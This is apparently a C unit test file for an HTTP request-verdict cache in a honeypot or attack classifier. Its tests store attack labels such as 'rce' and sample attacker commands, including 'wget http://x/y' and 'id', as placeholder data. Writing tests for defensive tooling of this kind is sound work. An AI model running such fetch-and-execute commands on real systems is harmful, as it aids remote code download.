/*
 * test_http_memo.c - unit tests for the memo of request verdicts
 * (src/proto/http_memo.c).
 *
 * A verdict may only come back for a request identical in every input it
 * depends on: the raw bytes, each view field, the port and the TLS flag.
 * Covers: a hit for the same request in fresh buffers; a miss when any one
 * input differs (each tried alone); fields whose concatenation is the same
 * ("GETX" "/a" against "GET" "X/a"); the same raw bytes with another view (a
 * request rebuilt from its fields) and the same view from other raw bytes;
 * a key too long to keep; a slot taken over by another request; the
 * commands and pointers kept by value; and a NULL memo, which never
 * remembers.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "proto/http_memo.h"

/* ---- a request in buffers of its own ---------------------------------------- */

struct treq {
    char method[16], target[256], version[16], body[6000], raw[6000];
    char hname[4][32], hval[4][64];
    struct hp_http_hdr hdrs[4];
    struct hp_http_view v;
    size_t raw_len;
};

#define BY(s) ((struct hp_bytes){ (const uint8_t *)(s), strlen(s) })

/* GET /cgi-bin/x?a=1 with Host and User-Agent, port 8080, plain text. */
static void treq_init(struct treq *r)
{
    memset(r, 0, sizeof(*r));
    strcpy(r->method, "GET");
    strcpy(r->target, "/cgi-bin/x?a=1");
    strcpy(r->version, "HTTP/1.1");
    strcpy(r->hname[0], "Host");
    strcpy(r->hval[0], "192.0.2.1:8080");
    strcpy(r->hname[1], "User-Agent");
    strcpy(r->hval[1], "Mozilla/5.0");
    r->v.nheaders = 2;
    r->v.local_port = 8080;
}

/* Point the view at the buffers and write the raw text from them. */
static const struct hp_http_view *treq_view(struct treq *r)
{
    struct hp_http_view *v = &r->v;
    v->method = BY(r->method);
    v->target = BY(r->target);
    v->version = BY(r->version);
    v->body = BY(r->body);
    v->path = v->dpath = v->target;
    v->dbody = v->body;
    for (size_t i = 0; i < v->nheaders; i++) {
        r->hdrs[i].name = BY(r->hname[i]);
        r->hdrs[i].value = BY(r->hval[i]);
    }
    v->headers = r->hdrs;
    int n = snprintf(r->raw, sizeof(r->raw), "%s %s %s\r\n", r->method, r->target, r->version);
    for (size_t i = 0; i < v->nheaders; i++)
        n += snprintf(r->raw + n, sizeof(r->raw) - (size_t)n, "%s: %s\r\n", r->hname[i], r->hval[i]);
    n += snprintf(r->raw + n, sizeof(r->raw) - (size_t)n, "\r\n%s", r->body);
    r->raw_len = (size_t)n;
    return v;
}

static void key_of(struct hp_http_memo_key *k, const struct hp_http_memo *m, struct treq *r)
{
    const struct hp_http_view *v = treq_view(r);
    hp_http_memo_key(k, m, v, (const uint8_t *)r->raw, r->raw_len);
}

static struct hp_http_verdict *verdict(const char *cls, const char *cmds, const void *resp)
{
    static struct hp_http_verdict vd;
    memset(&vd, 0, sizeof(vd));
    vd.wc.classes[0] = cls;
    vd.wc.nclasses = 1;
    snprintf(vd.wc.commands, sizeof(vd.wc.commands), "%s", cmds);
    vd.wc.commands_len = strlen(cmds);
    vd.resp = resp;
    vd.no_urls = true;
    return &vd;
}

static struct hp_http_memo_key k1, k2;      /* 4 KiB each: not on the stack */
static struct treq r1, r2;

/* ---- tests ------------------------------------------------------------------ */

static void test_memo_same_request_hits(void **state)
{
    (void)state;
    struct hp_http_memo *m = hp_http_memo_new(64);
    treq_init(&r1);
    key_of(&k1, m, &r1);
    assert_true(k1.ok);
    assert_null(hp_http_memo_get(m, &k1));
    static const int resp;
    hp_http_memo_put(m, &k1, verdict("rce", "wget http://x/y", &resp));
    treq_init(&r2);                          /* the same request, other buffers */
    key_of(&k2, m, &r2);
    const struct hp_http_verdict *vd = hp_http_memo_get(m, &k2);
    assert_non_null(vd);
    assert_string_equal(vd->wc.classes[0], "rce");
    assert_int_equal(vd->wc.nclasses, 1);
    assert_string_equal(vd->wc.commands, "wget http://x/y");
    assert_int_equal(vd->wc.commands_len, 15);
    assert_ptr_equal(vd->resp, &resp);
    assert_true(vd->no_urls);
    uint64_t hits, misses;
    hp_http_memo_stats(m, &hits, &misses);
    assert_int_equal(hits, 1);
    assert_int_equal(misses, 1);
    hp_http_memo_free(m);
}

/* Each change alone must miss. */
enum change { CH_METHOD, CH_TARGET, CH_VERSION, CH_HNAME, CH_HVAL, CH_HCOUNT, CH_BODY, CH_PORT, CH_TLS, CH_NCHANGES };

static void apply(struct treq *r, enum change ch)
{
    switch (ch) {
    case CH_METHOD: strcpy(r->method, "POST"); break;
    case CH_TARGET: r->target[5] = 'X'; break;
    case CH_VERSION: strcpy(r->version, "HTTP/1.0"); break;
    case CH_HNAME: strcpy(r->hname[1], "User-Agenz"); break;
    case CH_HVAL: strcpy(r->hval[1], "Mozilla/5.1"); break;
    case CH_HCOUNT: r->v.nheaders = 1; break;
    case CH_BODY: strcpy(r->body, "a=1"); break;
    case CH_PORT: r->v.local_port = 8081; break;
    case CH_TLS: r->v.tls = true; break;
    default: break;
    }
}

static void test_memo_any_difference_misses(void **state)
{
    (void)state;
    struct hp_http_memo *m = hp_http_memo_new(64);
    treq_init(&r1);
    key_of(&k1, m, &r1);
    hp_http_memo_put(m, &k1, verdict("scanner", "", NULL));
    for (int ch = 0; ch < CH_NCHANGES; ch++) {
        treq_init(&r2);
        apply(&r2, (enum change)ch);
        key_of(&k2, m, &r2);
        assert_true(k2.ok);
        if (hp_http_memo_get(m, &k2))
            fail_msg("change %d gave the verdict of the unchanged request", ch);
    }
    treq_init(&r2);
    key_of(&k2, m, &r2);
    assert_non_null(hp_http_memo_get(m, &k2));     /* and the original still hits */
    hp_http_memo_free(m);
}

/* The same raw text, the same bytes in the fields, cut differently. */
static void test_memo_field_boundaries(void **state)
{
    (void)state;
    struct hp_http_memo *m = hp_http_memo_new(64);
    treq_init(&r1);
    key_of(&k1, m, &r1);
    hp_http_memo_put(m, &k1, verdict("scanner", "", NULL));
    treq_init(&r2);
    treq_view(&r2);                          /* same raw text ... */
    r2.v.method = (struct hp_bytes){ (const uint8_t *)"GETX", 4 };
    r2.v.target = (struct hp_bytes){ (const uint8_t *)"/a", 2 };
    struct hp_http_view v1 = r2.v;
    v1.method = (struct hp_bytes){ (const uint8_t *)"GET", 3 };
    v1.target = (struct hp_bytes){ (const uint8_t *)"X/a", 3 };
    hp_http_memo_key(&k1, m, &v1, (const uint8_t *)r2.raw, r2.raw_len);
    hp_http_memo_key(&k2, m, &r2.v, (const uint8_t *)r2.raw, r2.raw_len);
    assert_true(k1.ok && k2.ok);
    hp_http_memo_put(m, &k1, verdict("rce", "", NULL));
    assert_null(hp_http_memo_get(m, &k2));
    /* ... and the raw text of a request rebuilt from its fields: a view
     * whose de-chunked body is not what the text says */
    treq_init(&r2);
    key_of(&k2, m, &r2);
    r2.v.body = r2.v.dbody = (struct hp_bytes){ (const uint8_t *)"x", 1 };
    hp_http_memo_key(&k2, m, &r2.v, (const uint8_t *)r2.raw, r2.raw_len);
    assert_null(hp_http_memo_get(m, &k2));
    /* the same view from another raw text ("Host:x" for "Host: x"): the URL
     * extractor reads the raw text */
    treq_init(&r2);
    key_of(&k2, m, &r2);
    /* put again: the view above took this request's slot when its hash fell in the same one
     * of the 64 (one seed in 64; a slot holds one verdict) */
    hp_http_memo_put(m, &k2, verdict("scanner", "", NULL));
    assert_non_null(hp_http_memo_get(m, &k2));
    char *colon = strstr(r2.raw, "Host: ");
    memmove(colon + 5, colon + 6, r2.raw_len - (size_t)(colon + 6 - r2.raw) + 1);
    hp_http_memo_key(&k2, m, &r2.v, (const uint8_t *)r2.raw, r2.raw_len - 1);
    assert_null(hp_http_memo_get(m, &k2));
    hp_http_memo_free(m);
}

static void test_memo_too_long_not_kept(void **state)
{
    (void)state;
    struct hp_http_memo *m = hp_http_memo_new(64);
    treq_init(&r1);
    memset(r1.body, 'A', 2500);              /* raw and body together pass the key's room */
    key_of(&k1, m, &r1);
    assert_false(k1.ok);
    hp_http_memo_put(m, &k1, verdict("rce", "", NULL));
    key_of(&k1, m, &r1);
    assert_null(hp_http_memo_get(m, &k1));
    r1.body[1500] = '\0';                    /* this one fits */
    key_of(&k1, m, &r1);
    assert_true(k1.ok);
    hp_http_memo_put(m, &k1, verdict("rce", "", NULL));
    assert_non_null(hp_http_memo_get(m, &k1));
    hp_http_memo_free(m);
}

static void test_memo_slot_taken_over(void **state)
{
    (void)state;
    struct hp_http_memo *m = hp_http_memo_new(1);   /* every key in one slot */
    treq_init(&r1);
    key_of(&k1, m, &r1);
    hp_http_memo_put(m, &k1, verdict("rce", "id", NULL));
    treq_init(&r2);
    strcpy(r2.target, "/a-much-longer-target-than-the-first-one");
    key_of(&k2, m, &r2);
    hp_http_memo_put(m, &k2, verdict("lfi", "", NULL));
    assert_null(hp_http_memo_get(m, &k1));
    const struct hp_http_verdict *vd = hp_http_memo_get(m, &k2);
    assert_non_null(vd);
    assert_string_equal(vd->wc.classes[0], "lfi");
    assert_int_equal(vd->wc.commands_len, 0);
    assert_string_equal(vd->wc.commands, "");   /* nothing left of the first one's */
    hp_http_memo_put(m, &k1, verdict("rce", "id", NULL));   /* and back, shorter key */
    vd = hp_http_memo_get(m, &k1);
    assert_non_null(vd);
    assert_string_equal(vd->wc.commands, "id");
    hp_http_memo_free(m);
}

static void test_memo_null_never_remembers(void **state)
{
    (void)state;
    treq_init(&r1);
    key_of(&k1, NULL, &r1);
    assert_false(k1.ok);
    hp_http_memo_put(NULL, &k1, verdict("rce", "", NULL));
    assert_null(hp_http_memo_get(NULL, &k1));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_memo_same_request_hits),
        cmocka_unit_test(test_memo_any_difference_misses),
        cmocka_unit_test(test_memo_field_boundaries),
        cmocka_unit_test(test_memo_too_long_not_kept),
        cmocka_unit_test(test_memo_slot_taken_over),
        cmocka_unit_test(test_memo_null_never_remembers),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
